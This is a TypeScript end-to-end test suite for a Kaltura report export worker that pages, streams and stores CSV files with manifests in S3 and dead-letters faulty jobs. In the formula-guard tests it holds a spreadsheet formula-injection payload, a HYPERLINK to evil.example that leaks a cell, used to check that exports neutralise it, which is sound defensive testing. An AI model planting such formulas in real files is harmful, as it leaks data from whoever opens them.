/**
 * Export jobs end to end: the Kaltura simulator, the real Kaltura client, the export handler run by
 * the job batch processor, and a real S3-compatible server (s3rver) written to by the real
 * @aws-sdk/client-s3. Every CSV is read back and checked against its manifest.
 */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { startSimulator, type Simulator } from '../../simulator/index.js';
import { createKalturaClient, type KalturaClient } from '../../shared/kaltura/kaltura-client.js';
import { createS3BlobStore } from '../../shared/storage/s3-blob-store.js';
import { createExportJobHandler, runExportNow, type ExportProgress } from '../../shared/exports/run-export.js';
import { adHocExportMessage } from '../../shared/exports/ad-hoc-export.js';
import { processJobBatch } from '../../shared/queues/job-batch-processor.js';
import { createMemoryLogger } from '../../shared/logging/logger.js';
import type { ExportManifest } from '../../shared/exports/manifest.js';
import type { JobMessage } from '../../shared/jobs/job-message.js';
import type { BlobStore } from '../../shared/ports/blob-store.js';
import { makeMessage, parseCsv, RecordingDeadLetters, RecordingQueue, sha256, startS3, type S3Peer } from './helpers.js';

let sim: Simulator;
let client: KalturaClient;
let s3: S3Peer;
let store: BlobStore;

beforeAll(async () => {
  [sim, s3] = await Promise.all([startSimulator({ bigRowCount: 20_000 }), startS3()]);
  client = createKalturaClient({ serviceUrl: sim.serviceUrl, reportsUrl: sim.reportsUrl, partnerId: sim.partnerId, adminSecret: sim.adminSecret, retryBaseDelayMs: 5, timeoutMs: 5000, maxRetries: 1 });
  store = createS3BlobStore({ bucket: s3.bucket, client: s3.client });
});
afterAll(async () => {
  await client?.close();
  await Promise.all([sim?.close(), s3?.close()]);
});
beforeEach(() => {
  sim.clearFaults();
  sim.clearRequests();
});

async function deliver(message: JobMessage, attempt = 1) {
  const queue = new RecordingQueue();
  const deadLetters = new RecordingDeadLetters();
  const logger = createMemoryLogger();
  const handler = createExportJobHandler({ api: client, blobStore: store, prefix: 'reports/' });
  const response = await processJobBatch([{ messageId: 'm1', body: JSON.stringify(message), attributes: { ApproximateReceiveCount: String(attempt) } }], { kind: 'export', handler, queue, deadLetters, logger });
  return { response, queue, deadLetters, logger };
}

/** Reads the manifest and the CSV back from S3 and checks one against the other. */
async function readBack(manifestKey: string): Promise<{ manifest: ExportManifest; csv: Buffer }> {
  const manifestBytes = await s3.read(manifestKey);
  expect(manifestBytes, `manifest at ${manifestKey}`).toBeDefined();
  const manifest = JSON.parse(manifestBytes!.toString('utf8')) as ExportManifest;
  const csv = await s3.read(manifest.dataKey);
  expect(csv, `CSV at ${manifest.dataKey}`).toBeDefined();
  expect(sha256(csv!)).toBe(manifest.sha256);
  expect(csv!.length).toBe(manifest.bytes);
  return { manifest, csv: csv! };
}

const base = 'reports/entry-ready';

describe('table source (paged getTable -> CSV)', () => {
  it('writes the entry report as RFC 4180 CSV with a manifest, under a key that names the entry', async () => {
    // Prepare
    const message = makeMessage({ kind: 'export', name: 'performance', scope: 'entry', window: { lastDays: 30, includeCurrent: true }, source: { type: 'table', reportType: 1, order: '-count_plays' } });
    // Act
    const { response, deadLetters } = await deliver(message);
    // Assess
    expect(response.batchItemFailures).toEqual([]);
    expect(deadLetters.letters).toEqual([]);
    const prefix = `${base}/performance/1_abc123/`;
    expect(await s3.list(prefix)).toEqual([`${prefix}${message.window.label}.csv`, `${prefix}${message.window.label}.manifest.json`]);
    const { manifest, csv } = await readBack(`${prefix}${message.window.label}.manifest.json`);
    const rows = parseCsv(csv.toString('utf8'));
    expect(rows[0]).toEqual(manifest.header);
    expect(rows[0]).toContain('count_plays');
    expect(rows.length - 1).toBe(manifest.rows);
    expect(manifest.rows).toBeGreaterThan(0);
    expect(manifest).toMatchObject({
      contentType: 'text/csv; charset=utf-8',
      bom: false,
      source: { type: 'table', reportType: '1', order: '-count_plays', filter: { entryIdIn: '1_abc123', fromDate: message.window.from, toDate: message.window.to, timeZoneOffset: 240 } }, // EDT at the window's start (21 Oct)
      window: { label: message.window.label, timezone: 'America/New_York' },
      job: { jobId: message.jobId, rule: 'entry-ready', name: 'performance', subject: { scope: 'entry', id: '1_abc123' } },
      partnerId: sim.partnerId,
    });
    const getTable = sim.requests.filter((r) => r.action.toLowerCase() === 'gettable');
    expect(getTable.length).toBe(manifest.pages);
  });

  it('passes configured filter fields through to Kaltura and pages with the configured page size', async () => {
    // Prepare: a partner-wide per-country report, 2 rows per page.
    const message = makeMessage({ kind: 'export', name: 'by-country', scope: 'partner', source: { type: 'table', reportType: 36, filter: { countryIn: 'US|DE', playbackTypeIn: 'vod' }, pageSize: 2 } });
    // Act
    const { response } = await deliver(message);
    // Assess
    expect(response.batchItemFailures).toEqual([]);
    const { manifest, csv } = await readBack(`${base}/by-country/4242/${message.window.label}.manifest.json`);
    const calls = sim.requests.filter((r) => r.action.toLowerCase() === 'gettable');
    expect(calls.length).toBeGreaterThan(1);
    const filter = (calls[0]!.params as { reportInputFilter: Record<string, unknown> }).reportInputFilter;
    expect(filter).toMatchObject({ countryIn: 'US|DE', playbackTypeIn: 'vod' });
    expect(filter.entryIdIn).toBeUndefined();
    expect(parseCsv(csv.toString()).length - 1).toBe(manifest.rows);
  });

  it('a report larger than getTable can serve (12000 rows) is dead-lettered with advice, and nothing is written', async () => {
    // Prepare
    const message = makeMessage({ kind: 'export', name: 'too-big', scope: 'entry', source: { type: 'table', reportType: 1 } }, { notification: { object: { id: '1_big_one' } } });
    // Act
    const { response, deadLetters } = await deliver(message);
    // Assess
    expect(response.batchItemFailures).toEqual([]);
    expect(deadLetters.letters).toHaveLength(1);
    expect(deadLetters.letters[0]!.reason).toMatch(/12000 rows.*getUrlForReportAsCsv/);
    expect(await s3.list(`${base}/too-big/`)).toEqual([]);
  });

  it('running the same job again replaces its files (same keys, no duplicates)', async () => {
    // Prepare
    const message = makeMessage({ kind: 'export', name: 'rerun', scope: 'entry', source: { type: 'table', reportType: 1 } });
    await deliver(message);
    const first = await readBack(`${base}/rerun/1_abc123/${message.window.label}.manifest.json`);
    // Act
    await deliver(message);
    // Assess
    const keys = await s3.list(`${base}/rerun/`);
    expect(keys).toHaveLength(2);
    const second = await readBack(`${base}/rerun/1_abc123/${message.window.label}.manifest.json`);
    expect(second.manifest.sha256).toBe(first.manifest.sha256);
    expect(Date.parse(second.manifest.generatedAt)).toBeGreaterThanOrEqual(Date.parse(first.manifest.generatedAt));
  });
});

describe('csv-url source (getUrlForReportAsCsv + streamed download)', () => {
  it('stores the file exactly as Kaltura wrote it and counts the rows of its table section', async () => {
    // Prepare
    const message = makeMessage({
      kind: 'export',
      name: 'creators',
      scope: 'partner',
      source: { type: 'csv-url', reportType: 1, reportTitle: 'Top content', totalHeaders: ['Plays'], tableHeaders: ['Entry ID', 'Entry name', 'Plays'] },
    });
    // Act
    const { response, deadLetters } = await deliver(message);
    // Assess
    expect(deadLetters.letters).toEqual([]);
    expect(response.batchItemFailures).toEqual([]);
    const { manifest, csv } = await readBack(`${base}/creators/4242/${message.window.label}.manifest.json`);
    expect(csv.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(true);
    expect(manifest.bom).toBe(true);
    const text = csv.toString('utf8');
    expect(text).toContain('"Top content"');
    const lines = text.split('\n').filter((l) => l !== '');
    const marker = lines.findIndex((l) => l.startsWith('"# Table"'));
    expect(marker).toBeGreaterThan(0);
    expect(lines[marker + 2]).toBe('"Entry ID","Entry name","Plays"');
    expect(manifest.rows).toBe(lines.length - marker - 3);
    expect(manifest.rows).toBeGreaterThan(0);
    expect(manifest.source).toMatchObject({ type: 'csv-url', tableHeaders: ['Entry ID', 'Entry name', 'Plays'], totalHeaders: ['Plays'] });
  });

  it('a download cut half way is retried by the queue and leaves no object', async () => {
    // Prepare
    sim.injectFault({ kind: 'truncate-download', times: 10 });
    const message = makeMessage({ kind: 'export', name: 'cut', scope: 'entry', source: { type: 'csv-url', reportType: 1, tableHeaders: ['Entry ID', 'Plays'] } }, { notification: { object: { id: '1_big_cut' } } });
    // Act
    const { response, deadLetters } = await deliver(message);
    // Assess
    expect(response.batchItemFailures).toEqual([{ itemIdentifier: 'm1' }]);
    expect(deadLetters.letters).toEqual([]);
    expect(await s3.list(`${base}/cut/`)).toEqual([]);
  });
});

describe('the export worker against a hostile Kaltura', () => {
  const tableJob = (name: string) => makeMessage({ kind: 'export', name, scope: 'entry', source: { type: 'table', reportType: 1 } }, { notification: { object: { id: '1_hostile' } } });
  const csvUrlJob = (name: string) => makeMessage({ kind: 'export', name, scope: 'entry', source: { type: 'csv-url', reportType: 1, tableHeaders: ['Entry ID', 'Plays'] } }, { notification: { object: { id: '1_hostile' } } });

  it('an HTML page instead of the API is permanent: dead-lettered on the first attempt with a readable reason, nothing written', async () => {
    // Prepare
    sim.injectFault({ kind: 'html-page', times: 100, match: { action: 'getTable' } });
    // Act
    const { response, deadLetters } = await deliver(tableJob('html'));
    // Assess
    expect(response.batchItemFailures).toEqual([]);
    expect(deadLetters.letters.map((l) => [l.attempts, l.reason])).toEqual([
      [1, 'Kaltura report.getTable answered an HTML page ("Service Temporarily Unavailable") instead of JSON: check that KALTURA_SERVICE_URL points at the Kaltura API server, not a web page or proxy'],
    ]);
    expect(await s3.list(`${base}/html/`)).toEqual([]);
  });

  it.each([
    { fault: { kind: 'empty-body' as const, times: 100, match: { action: 'getTable' } }, job: tableJob, name: 'empty' },
    { fault: { kind: 'truncated-json' as const, times: 100, match: { action: 'getTable' } }, job: tableJob, name: 'cut-json' },
    { fault: { kind: 'null-result' as const, times: 100, match: { action: 'getUrlForReportAsCsv' } }, job: csvUrlJob, name: 'null-url' },
  ])('$fault.kind for good is retryable: handed back to the queue, nothing written; the last attempt is dead-lettered with the reason', async ({ fault, job, name }) => {
    // Prepare
    sim.injectFault(fault);
    const message = job(name);
    // Act
    const first = await deliver(message, 1);
    const last = await deliver(message, 5);
    // Assess
    expect(first.response.batchItemFailures).toEqual([{ itemIdentifier: 'm1' }]);
    expect(first.deadLetters.letters).toEqual([]);
    expect(last.deadLetters.letters).toHaveLength(1);
    expect(last.deadLetters.letters[0]!.reason).toMatch(/^Gave up after 5 attempts: Kaltura report\.\w+ (answered|returned) .*; tried 2 times|^Gave up after 5 attempts: Kaltura report\.getUrlForReportAsCsv returned no URL \(null\) 2 times/);
    expect(await s3.list(`${base}/${name}/`)).toEqual([]);
  });

  it('a KS refused for good mid-run is permanent: dead-lettered at once, saying what to check', async () => {
    // Prepare: every KS, also a renewed one, is refused from now on.
    sim.injectFault({ kind: 'invalid-ks-after', calls: 0, later: true });
    // Act
    const { response, deadLetters } = await deliver(tableJob('ks'));
    // Assess
    expect(response.batchItemFailures).toEqual([]);
    expect(deadLetters.letters).toHaveLength(1);
    expect(deadLetters.letters[0]!.reason).toMatch(/INVALID_KS.*check the partner id, secret or app token/);
    expect(await s3.list(`${base}/ks/`)).toEqual([]);
  });
});

describe('string-params source (getCsvFromStringParams)', () => {
  it('streams the special report without its BOM and adds the window parameters', async () => {
    // Prepare
    const message = makeMessage(
      { kind: 'export', name: 'add-to-calendar', scope: 'virtual-event', source: { type: 'string-params', reportId: 3006, params: { virtual_event_id: '{object.id}' } } },
      { rule: 'virtual-event', notification: { object: { id: '777' } } },
    );
    // Act
    const { response, deadLetters } = await deliver(message);
    // Assess
    expect(deadLetters.letters).toEqual([]);
    expect(response.batchItemFailures).toEqual([]);
    const { manifest, csv } = await readBack(`reports/virtual-event/add-to-calendar/777/${message.window.label}.manifest.json`);
    expect(csv[0]).not.toBe(0xef);
    const rows = parseCsv(csv.toString('utf8'));
    expect(rows[0]).toContain('entry_id');
    expect(manifest.rows).toBe(rows.length - 1);
    expect(manifest.source).toMatchObject({ type: 'string-params', reportId: 3006, params: { virtual_event_id: '777', from_date_id: expect.stringMatching(/^\d{8}$/), timezone_offset: 300 } });
    const call = sim.requests.find((r) => r.action.toLowerCase() === 'getcsvfromstringparams');
    expect(String(call?.params.params)).toContain('virtual_event_id=777');
    expect(String(call?.params.params)).toMatch(/from_date_id=\d{8};to_date_id=\d{8}/);
  });
});

describe('formula guard (an entry named like a spreadsheet formula)', () => {
  const FORMULA = (id: string) => `=HYPERLINK("https://evil.example/?leak="&A1,"Watch ${id}")`;

  it.each([
    { guard: undefined, expected: (id: string) => `'${FORMULA(id)}`, recorded: true },
    { guard: true, expected: (id: string) => `'${FORMULA(id)}`, recorded: true },
    { guard: false, expected: FORMULA, recorded: false },
  ])('a table export with csv.formulaGuard $guard writes the name guarded: $recorded, and the manifest says so', async ({ guard, expected, recorded }) => {
    // Prepare
    const message = makeMessage(
      { kind: 'export', name: `names-${String(guard)}`, scope: 'entry', source: { type: 'table', reportType: 1 }, ...(guard !== undefined ? { csv: { formulaGuard: guard } } : {}) },
      { notification: { object: { id: '1_formula', status: 2 } } },
    );
    // Act
    const { deadLetters } = await deliver(message);
    // Assess
    expect(deadLetters.letters).toEqual([]);
    const { manifest, csv } = await readBack(`${base}/names-${String(guard)}/1_formula/${message.window.label}.manifest.json`);
    const [header, row] = parseCsv(csv.toString('utf8'));
    const cell = (name: string) => row![header!.indexOf(name)]!;
    expect(cell('entry_name')).toBe(expected('1_formula'));
    expect(cell('count_plays')).toMatch(/^\d+$/);
    expect(manifest.formulaGuard).toBe(recorded);
  });

  it('a string-params export guards the entry_name cells of the unquoted file Kaltura sends', async () => {
    // Prepare
    const message = makeMessage(
      { kind: 'export', name: 'views', scope: 'virtual-event', source: { type: 'string-params', reportId: 3007, params: { virtual_event_id: '{object.id}', entry_ids: '1_formula' } } },
      { rule: 'virtual-event', notification: { object: { id: '778' } } },
    );
    // Act
    const { deadLetters } = await deliver(message);
    // Assess: Kaltura replaced the commas by spaces; the guard put a quote in front.
    expect(deadLetters.letters).toEqual([]);
    const { manifest, csv } = await readBack(`reports/virtual-event/views/778/${message.window.label}.manifest.json`);
    // Read as Kaltura writes it: unquoted cells, one line per row (its quotes are text, not CSV quoting).
    const [header, ...rows] = csv.toString('utf8').trimEnd().split('\n').map((line) => line.split(','));
    const names = rows.map((r) => r[header!.indexOf('entry_name')]);
    expect(names.length).toBeGreaterThan(0);
    for (const name of names) expect(name).toBe(`'${FORMULA('1_formula').replace(/,/g, ' ')}`);
    expect(manifest).toMatchObject({ formulaGuard: true, rows: rows.length });
  });
});

describe('runExportNow (kreports export)', () => {
  it('reports progress in rows, pages and bytes while an ad-hoc export runs', async () => {
    // Prepare
    const message = adHocExportMessage({ source: { type: 'table', reportType: 1, pageSize: 10 }, window: 'previous-week', timezone: 'Europe/London', partnerId: sim.partnerId, at: new Date('2026-11-23T12:00:00Z') });
    const seen: ExportProgress[] = [];
    // Act
    const result = await runExportNow({ api: client, blobStore: store, prefix: 'reports/', message, onProgress: (p) => seen.push({ ...p }) });
    // Assess
    expect(result.dataKey).toBe('reports/adhoc/export/4242/2026-11-16_2026-11-23.csv');
    expect(seen.length).toBeGreaterThan(1);
    const last = seen[seen.length - 1]!;
    expect(last).toEqual({ rows: result.manifest.rows, pages: result.manifest.pages, bytes: result.manifest.bytes });
    expect(seen.map((p) => p.rows)).toEqual([...seen.map((p) => p.rows)].sort((a, b) => a - b));
  });
});
